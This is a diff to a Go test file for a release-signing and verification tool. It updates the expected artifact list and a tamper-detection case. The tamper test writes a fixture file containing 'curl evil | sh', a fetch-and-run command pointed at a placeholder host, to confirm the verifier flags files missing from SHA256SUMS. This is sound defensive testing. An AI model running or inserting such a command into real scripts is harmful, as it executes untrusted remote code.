@@ -89,7 +89,7 @@ func TestSnapshotReleaseVerifiesWithTheCosignCLI(t *testing.T) {
 	for _, e := range entries {
 		names = append(names, e.Name())
 	}
-	want := []string{checksum.FileName, sign.BundleName, manifest.FileName}
+	want := []string{checksum.FileName, sign.BundleName, manifest.FileName, "install.sh", "install.ps1"}
 	for _, tg := range cfg(t).Targets {
 		ext := ".tar.gz"
 		if tg.GOOS == "windows" {
@@ -456,8 +456,8 @@ func TestVerifyRefusesTampering(t *testing.T) {
 			})
 		}, []string{"manifest.json: lists no npm platform package for target windows-arm64"}},
 		{"a file no checksum covers", func(t *testing.T, dir string) {
-			writeFile(t, filepath.Join(dir, "install.sh"), "curl evil | sh\n")
-		}, []string{"install.sh: is in the release but not in SHA256SUMS"}},
+			writeFile(t, filepath.Join(dir, "update.sh"), "curl evil | sh\n")
+		}, []string{"update.sh: is in the release but not in SHA256SUMS"}},
 		{"a manifest that disagrees", func(t *testing.T, dir string) {
 			reseal(t, dir, priv, func(m *manifest.Manifest) { m.Artifacts[0].SHA256 = strings.Repeat("0", 64) })
 		}, []string{"manifest.json says sha256 " + strings.Repeat("0", 64)}},
